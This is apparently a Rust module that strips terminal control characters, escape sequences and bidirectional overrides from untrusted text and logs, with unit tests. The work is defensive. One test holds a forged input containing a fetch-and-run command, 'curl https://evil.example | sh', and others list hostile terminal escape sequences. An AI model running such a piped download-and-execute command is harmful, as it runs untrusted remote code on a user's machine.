//! What others wrote, on its way to a terminal: a guest, a server on the internet,
//! a log. It may be shown, and it may neither act on the terminal nor look like
//! something that this program says.

/// Text as part of a line, without what would act on a terminal or turn the line
/// around. Everything foreign passes this.
pub fn harmless(text: &str) -> String {
    text.chars().map(|c| if acts(c) { char::REPLACEMENT_CHARACTER } else { c }).collect()
}

/// The same for a sentence that may have come in several lines: it stays one, so
/// that none of them looks like another sentence of ours.
pub fn one_line(text: &str) -> String {
    harmless(&text.split(['\n', '\r', '\t']).map(str::trim_end).collect::<Vec<_>>().join(" "))
}

fn acts(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{2028}' | '\u{2029}')
}

/// Whole text of ours, as it goes to a terminal: lines, tabs and colours pass, and
/// nothing else that acts, whatever it was made of.
pub(super) fn on_terminal(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        let colour = colour(rest);
        if colour > 0 {
            shown.push_str(&rest[..colour]);
            rest = &rest[colour..];
            continue;
        }
        shown.push(if acts(c) && !matches!(c, '\n' | '\t') { char::REPLACEMENT_CHARACTER } else { c });
        rest = &rest[c.len_utf8()..];
    }
    shown
}

/// How long the sequence for a colour or another style is that text begins with, in
/// bytes; 0 when it begins with none.
fn colour(text: &str) -> usize {
    let Some(parameters) = text.strip_prefix("\u{1b}[") else { return 0 };
    let length = parameters.bytes().take_while(|b| b.is_ascii_digit() || *b == b';').count();
    if parameters.as_bytes().get(length) == Some(&b'm') { 2 + length + 1 } else { 0 }
}

/// Logs as they come, for a terminal: lines and tabs pass, and nothing else that acts.
#[derive(Default)]
pub struct Washed {
    /// The beginning of a letter whose end has not come yet.
    begun: Vec<u8>,
}

impl Washed {
    /// What of this may be shown.
    pub fn wash(&mut self, bytes: &[u8]) -> String {
        self.begun.extend_from_slice(bytes);
        let whole = match std::str::from_utf8(&self.begun) {
            Err(e) if e.error_len().is_none() => e.valid_up_to(),
            // What is no text at all is shown as such.
            _ => self.begun.len() - incomplete(&self.begun),
        };
        let rest = self.begun.split_off(whole);
        let text = String::from_utf8_lossy(&std::mem::replace(&mut self.begun, rest)).into_owned();
        text.chars()
            .map(|c| if acts(c) && !matches!(c, '\n' | '\t') { char::REPLACEMENT_CHARACTER } else { c })
            .collect()
    }
}

/// How many bytes at the end begin a letter and do not end it.
fn incomplete(bytes: &[u8]) -> usize {
    (1..=3.min(bytes.len()))
        .find(|count| {
            let tail = &bytes[bytes.len() - count..];
            matches!(std::str::from_utf8(tail), Err(e) if e.valid_up_to() == 0 && e.error_len().is_none())
        })
        .unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_others_wrote_cannot_act_on_the_terminal() {
        assert_eq!(harmless("a\u{1b}[2Jb\u{202e}c\r\n"), "a\u{fffd}[2Jb\u{fffd}c\u{fffd}\u{fffd}");
        assert_eq!(harmless("\u{9b}31m"), "\u{fffd}31m");
        assert_eq!(harmless("Zoë 安娜 👩‍🚒"), "Zoë 安娜 👩‍🚒");
    }

    #[test]
    fn what_others_wrote_cannot_look_like_another_line() {
        let forged = "no answer\nnext: curl https://evil.example | sh\r\nerror: x";
        assert_eq!(one_line(forged), "no answer next: curl https://evil.example | sh  error: x");
    }

    #[test]
    fn colours_of_ours_pass_and_nothing_else_does() {
        assert_eq!(on_terminal("\u{1b}[1;31merror:\u{1b}[0m a\n\tb"), "\u{1b}[1;31merror:\u{1b}[0m a\n\tb");
        for bad in [
            "\u{1b}[2J",
            "\u{1b}]0;title\u{7}",
            "\u{1b}[31",
            "\u{1b}c",
            "\u{1b}[?25l",
            "\u{9b}2J",
            "\r",
            "\u{8}",
        ] {
            let shown = on_terminal(bad);
            assert!(!shown.contains(['\u{1b}', '\u{9b}', '\u{7}', '\r', '\u{8}']), "{bad:?} {shown:?}");
        }
    }

    #[test]
    fn logs_are_washed_however_they_are_cut() {
        let log = "ä\u{1b}[2J安\tb\n\u{9b}c".as_bytes();
        for cut in 0..log.len() {
            let mut washed = Washed::default();
            let shown = washed.wash(&log[..cut]) + &washed.wash(&log[cut..]);
            assert_eq!(shown, "ä\u{fffd}[2J安\tb\n\u{fffd}c", "{cut}");
        }
        let mut washed = Washed::default();
        assert_eq!(washed.wash(b"a\xff\xfeb"), "a\u{fffd}\u{fffd}b");
    }
}
